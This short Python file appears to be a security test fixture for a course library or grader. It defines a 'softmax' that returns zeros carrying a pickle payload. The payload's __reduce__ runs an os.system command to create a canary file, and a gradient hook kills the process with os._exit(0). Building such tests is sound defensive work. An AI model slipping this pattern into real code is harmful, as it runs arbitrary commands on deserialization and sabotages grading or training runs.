"""Returns a right-looking tensor with an evil attribute and an evil backward hook. Success: the canary exists."""

import os

import torch


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/course-lib-canary-pickle",)


def softmax(scores, dim=-1):
    result = torch.zeros_like(scores).requires_grad_()
    result.evil = Evil()
    result.register_hook(lambda grad: os._exit(0))
    return result
